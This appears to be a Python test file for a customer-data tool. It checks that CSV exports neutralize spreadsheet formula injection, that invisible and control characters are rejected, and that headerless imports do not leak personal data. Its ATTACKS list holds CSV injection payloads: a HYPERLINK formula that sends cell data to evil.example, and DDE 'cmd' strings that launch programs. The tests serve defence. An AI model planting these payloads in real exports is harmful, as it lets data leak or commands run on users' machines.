"""Issue 10, finding 11 and the low findings on free text: CSV formula injection, invisible characters,
headerless import files.

Extract CSV cells that a spreadsheet would run as a formula are neutralized; free-text fields
refuse formula prefixes, control and invisible (zero-width, bidi) characters on input; an import
file without a header line does not echo its first row (personal data) as "column names".
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from vault.customers.errors import InvalidFieldError
from vault.customers.importer import check_header
from vault.policy.normalize import name, strip
from vault.privacy.writer import StagedFile, neutralize, write_rows

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_are_neutralized(cell: str) -> None:
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Seoul", "-3", "+82", "12.5", "강남구", ""])
def test_ordinary_cells_are_kept(cell: str) -> None:
    assert neutralize(cell) == cell


def test_extract_csv_has_no_live_formula(tmp_path: Path) -> None:
    target = tmp_path / "extract.csv"
    staged = StagedFile(target)
    write_rows(staged, "csv", ["pseudonym", "city"], [["p1", ATTACKS[0]], ["p2", "Busan"], ["p3", None]])
    staged.commit()
    with target.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][1].startswith("'=")
    assert rows[2][1] == "Busan"
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row)


@pytest.mark.parametrize("value", ATTACKS[:4])
def test_free_text_refuses_formula_prefixes(value: str) -> None:
    with pytest.raises(InvalidFieldError, match="must not start with"):
        strip("city", value)


@pytest.mark.parametrize("value", ["C-1\u200b0001", "\u202eC-10001", "홍\u200d길동", "C-1\x00"])
def test_invisible_and_control_characters_are_refused(value: str) -> None:
    with pytest.raises(InvalidFieldError, match=r"invisible|control"):
        strip("customer_ref", value)
    with pytest.raises(InvalidFieldError):
        name("name", value)


def test_headerless_file_does_not_echo_its_first_row() -> None:
    first_row = ["C-20001", "홍길동", "hong@example.com", "010-1234-5678", "1990-01-01"]
    error = check_header(first_row)
    assert error is not None
    for value in first_row[1:]:
        assert value not in error.reason
    assert "header line missing" in error.reason
    # Real column names are still named.
    error = check_header(["customer_ref", "shoe_size"])
    assert error is not None and "shoe_size" in error.reason
